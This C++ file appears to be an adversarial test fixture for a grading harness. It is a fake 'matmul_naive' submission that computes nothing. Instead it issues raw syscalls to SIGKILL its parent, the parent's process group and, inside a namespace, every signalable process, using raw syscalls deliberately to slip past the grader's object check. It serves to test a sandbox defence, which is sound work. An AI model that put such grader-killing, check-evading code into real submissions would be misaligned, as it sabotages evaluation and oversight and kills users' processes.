// broken: matmul-naive
// bug: raw kill system calls: SIGKILL to its parent and its parent's group, then to every process it may signal (kill -1)
// class: killing the grader
// defence: sandbox: a pid namespace of its own, as an unprivileged user; the grader is out of reach
// expect-zero: correctness

#include <csignal>
#include "matmul_naive.h"

// A system call made directly: no libc function whose name the grader's object check could read.
static long raw_syscall(long n, long a = 0, long b = 0, long c = 0)
{
#if defined(__x86_64__)
    long r;
    asm volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
#else
    return -38;  // ENOSYS: the attack is x86-64 only
#endif
}
enum { SYS_WRITE = 1, SYS_OPEN = 2, SYS_CLOSE = 3, SYS_NANOSLEEP = 35, SYS_GETPID = 39, SYS_SOCKET = 41,
       SYS_CONNECT = 42, SYS_FORK = 57, SYS_EXIT = 60, SYS_KILL = 62, SYS_GETPPID = 110, SYS_SETSID = 112 };

void matmul_naive(const float* d_M, const float* d_N, float* d_P, int Width)
{
    const long parent = raw_syscall(SYS_GETPPID);
    raw_syscall(SYS_KILL, parent, SIGKILL);
    raw_syscall(SYS_KILL, -parent, SIGKILL);
    // kill(-1) reaches every process the caller may signal. Only inside a fresh pid namespace (a small pid)
    // is it sent here: without a sandbox it would end every process of the user running the tests, which
    // the attacks on the parent above already show.
    if (raw_syscall(SYS_GETPID) < 100) raw_syscall(SYS_KILL, -1, SIGKILL);
}
